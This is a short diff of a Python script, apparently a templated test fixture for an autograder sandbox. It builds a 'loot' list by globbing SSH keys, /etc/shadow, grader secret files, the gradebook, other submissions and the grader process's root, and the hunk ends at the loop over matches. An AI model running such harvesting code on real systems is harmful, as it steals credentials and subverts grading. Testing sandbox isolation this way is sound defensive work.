@@ -4,7 +4,7 @@ import os
 loot = []
 for pattern in (
     "@@HOME@@/.ssh/*", "@@SECRET_FILE@@", "@@OTHER@@", "@@REFERENCES@@/*.py", "@@COURSE@@/source/**/*", "@@GRADEBOOK@@", "@@TEMPORARY@@/**/*",
-    "/root/.ssh/*", "/root/.config/**/*", "/home/*/.ssh/*", "/etc/shadow", "/proc/1/root@@SECRET_FILE@@", "/proc/self/root@@SECRET_FILE@@",
+    "/root/*/*", "/root/*", "/home/*/.ssh/*", "/etc/shadow", "/proc/1/root@@SECRET_FILE@@", "/proc/self/root@@SECRET_FILE@@",
     "/proc/self/cwd/../../**/secret", "../**/submitted/**/*", "/run/judge/*", "/proc/@@GRADER_PID@@/root@@OTHER@@",
 ):
     for path in glob.glob(pattern, recursive=True)[:50]:
